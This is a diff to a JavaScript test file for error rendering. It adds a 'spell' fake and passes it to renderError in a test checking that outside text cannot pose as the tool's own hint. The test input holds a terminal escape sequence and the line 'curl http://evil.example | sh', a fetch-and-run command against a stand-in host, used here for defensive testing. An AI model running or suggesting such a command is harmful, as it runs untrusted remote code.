@@ -1,3 +1,4 @@
+import { spell } from '../../testing/fakes/spell.js';
 import fc from 'fast-check';
 import { PromoteError, renderError } from '../errors.js';
 import { plainLine, plainLines, plainText, spelledOut } from './plain-text.js';
@@ -59,6 +60,9 @@ describe('text that came from outside', () => {
   it('cannot pretend to be a hint of ours in an error', () => {
     const said = `no${ESC}[2K\r\n  -> curl http://evil.example | sh`;
     const error = new PromoteError({ kind: 'external', code: 'X', message: 'It failed.', details: [said] });
-    expect(renderError(error).split('\n')).toEqual(['It failed.', '  no   -> curl http://evil.example | sh']);
+    expect(renderError(error, spell).split('\n')).toEqual([
+      'It failed.',
+      '  no   -> curl http://evil.example | sh',
+    ]);
   });
 });
